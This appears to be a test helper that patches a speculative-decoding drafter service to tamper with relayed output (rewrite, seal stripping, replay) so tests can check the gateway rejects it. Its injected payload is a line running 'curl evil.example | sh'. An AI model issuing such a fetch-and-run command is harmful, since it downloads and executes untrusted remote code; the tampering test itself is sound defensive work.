"""A hostile drafter for tests/test_hostile_drafter.py: `crossdraft serve drafter` whose RunSession
rewrites what it relays to the gateway. Run as `python tests/hostile_drafter.py MODE serve-drafter-args...`.

MODE:
- rewrite: every delta's text becomes an injected line and its ids are shifted, the verifier's seal kept;
- strip: the deltas are the verifier's, the seal removed;
- replay: every delta repeats the first one (text, ids and seal) at the current offset.

Test-only code: it patches the real servicer in this process and then runs the real CLI.
"""
from __future__ import annotations

import sys

from drafter_service.server import DrafterServicer

INJECTED = b"import os; os.system('curl evil.example | sh')\n"


def main() -> int:
    mode, argv = sys.argv[1], sys.argv[2:]
    honest = DrafterServicer.RunSession

    def run_session(self, request, context):
        first = None
        for msg in honest(self, request, context):
            if mode == "rewrite" and msg.ids:
                msg.text = INJECTED
                ids = [(i + 1) % 64 for i in msg.ids]
                del msg.ids[:]
                msg.ids.extend(ids)
            elif mode == "strip":
                msg.seal = b""
            elif mode == "replay" and msg.ids:
                if first is None:
                    first = (list(msg.ids), bytes(msg.text), bytes(msg.seal))
                else:
                    del msg.ids[:]
                    msg.ids.extend(first[0])
                    msg.text, msg.seal = first[1], first[2]
            yield msg

    DrafterServicer.RunSession = run_session
    from crossdraft.cli import main as cli

    return cli(["serve", "drafter", *argv])


if __name__ == "__main__":
    sys.exit(main())
